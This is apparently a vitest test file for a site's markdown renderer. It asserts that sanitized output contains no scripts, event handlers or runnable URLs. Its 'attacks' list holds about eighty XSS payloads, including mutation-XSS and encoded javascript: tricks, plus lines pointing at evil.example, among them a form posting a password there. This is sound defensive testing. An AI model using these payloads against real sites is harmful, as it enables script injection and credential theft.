import fc from 'fast-check'
import type { Element } from 'hast'
import { fromHtml } from 'hast-util-from-html'
import { renderToStaticMarkup } from 'react-dom/server'
import { visit } from 'unist-util-visit'
import { describe, expect, it } from 'vitest'
import { z } from 'zod'
import { createTranslator } from '#platform/words/translator.ts'
import { createMarkdown } from './markdown.tsx'
import { sanitizeSchema } from './sanitize-schema.ts'
import { createSyntax } from './syntax.ts'

const box = {
  name: 'box',
  shortcodes: ['box'],
  attributes: z.object({}),
  draw: async (_: unknown, __: unknown, body?: React.ReactNode) => ({ view: <section>{body}</section> }),
}

const markdown = createMarkdown({
  syntax: createSyntax(() => [box]),
  site: async () => ({ url: 'https://hillside.example', language: 'en', typography: true }),
  translator: createTranslator(),
  describePicture: async () => undefined,
  showProblems: true,
})

const draw = async (source: string) => {
  const { body } = await markdown.draw(source, { now: new Date(0) })
  return renderToStaticMarkup(body)
}

const harmless = new Set([...(sanitizeSchema.tagNames ?? []), 'link', 'aside', 'picture'])
const addresses = ['href', 'src', 'srcSet', 'cite', 'poster', 'action', 'formAction', 'data', 'xLinkHref']

/** What a browser would make of it: anything that runs, frames, styles or posts. */
function dangersIn(html: string): string[] {
  const dangers: string[] = []
  visit(fromHtml(html, { fragment: true }), 'element', ({ tagName, properties }: Element) => {
    if (!harmless.has(tagName)) dangers.push(`<${tagName}>`)
    if (tagName === 'link' && properties.as !== 'image') dangers.push('<link>')
    for (const [name, value] of Object.entries(properties)) {
      if (/^on|^style$|^srcDoc$/i.test(name)) dangers.push(`${tagName} ${name}`)
      if (addresses.includes(name) && isRunnable(String(value))) dangers.push(`${tagName} ${name}=${value}`)
    }
    const isHeading = /^h[1-6]$/.test(tagName)
    if (!isHeading && properties.id !== undefined && !String(properties.id).startsWith('user-content-')) {
      dangers.push(`${tagName} id=${properties.id}`)
    }
  })
  return dangers
}

/** As browsers read a scheme: without spaces and control characters. */
const isRunnable = (address: string) =>
  // biome-ignore lint/suspicious/noControlCharactersInRegex: browsers skip them
  /^(javascript|vbscript|data|blob|file):/i.test(address.replace(/[\u0000-\u0020]/g, ''))

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror\n=\nalert(1)>',
  '<img/src=x/onerror=alert(1)//>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>body{background:url(javascript:alert(1))}</style>',
  '<p style="background:url(https://evil.example)">x</p>',
  '<div onclick="alert(1)" onmouseover=alert(2)>x</div>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="&#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '[x](javascript:alert(1))',
  '[x](JAVASCRIPT:alert(1))',
  '[x](<javascript:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x]( javascript&colon;alert(1))',
  '[x][1]\n\n[1]: javascript:alert(1)',
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
  '![x" onerror="alert(1)](/a.png)',
  '![x](/a.png "t" onerror="alert(1)")',
  '<javascript:alert(1)>',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input type="image" src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<textarea autofocus onfocus=alert(1)>',
  '<video poster="javascript:alert(1)"><source onerror=alert(1)></video>',
  '<audio src="data:audio/mp3,x" onloadstart=alert(1) autoplay>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><script>alert(1)</script>',
  '<title><script>alert(1)</script></title>',
  '<select><style></select><script>alert(1)</script>',
  '<table><td background="javascript:alert(1)">x</td></table>',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '</div></main></body><script>alert(1)</script>',
  '<p id="content" name="site-menu">x</p>',
  '<a id=location href=//x></a><img name=cookie><img id=x name=body>',
  '<div is="x-y" slot=a part=b>x</div>',
  '<portico-island name="menu" file="/assets/x.js" hydrate="/assets/x.js" wake="load" props="{}"></portico-island>',
  '<portico-script name="x" file="/assets/x.js"></portico-script>',
  '<portico-slot name="body">x</portico-slot>',
  '```html\n<script>alert(1)</script>\n```',
  '```"><script>alert(1)</script>\nx\n```',
  '`<script>alert(1)</script>`',
  '::box{onclick="alert(1)" style="x"}',
  ':::box\n<script>alert(1)</script>\n:::',
  '[box onclick="alert(1)"]<img src=x onerror=alert(1)>[/box]',
  '::bax[<img src=x onerror=alert(1)>]',
  '## <img src=x onerror=alert(1)>',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  '[^"><script>]\n\n[^"><script>]: x',
  '| <script>alert(1)</script> | [x](javascript:alert(1)) |\n| - | - |\n| a | b |',
]

describe('raw HTML and addresses in content', () => {
  it.each(attacks)('[SITE-01] [EXT-02] are harmless: %s', async (attack) => {
    expect(dangersIn(await draw(attack))).toEqual([])
    expect(
      dangersIn(await draw(`Text before ${attack} and after.\n\n- in a list ${attack}\n\n> ${attack}`)),
    ).toEqual([])
  })

  it('are harmless in any mixture', async () => {
    const piece = fc.oneof(
      fc.constantFrom(...attacks),
      fc.string({ unit: 'grapheme', maxLength: 12 }),
      fc.string({ unit: fc.constantFrom(...'<>"\'=/:[](){}`*_#-!&;\\\n \tajs|^~'), maxLength: 16 }),
      fc.constantFrom(
        '::box',
        '[box]',
        '[/box]',
        ':::',
        '<div>',
        '</div>',
        '<table><tr><td>',
        '\n\n',
        '    ',
        '<!--',
      ),
    )
    await fc.assert(
      fc.asyncProperty(fc.array(piece, { maxLength: 12 }), async (pieces) => {
        expect(dangersIn(await draw(pieces.join('')))).toEqual([])
      }),
      { numRuns: 400 },
    )
  })
})
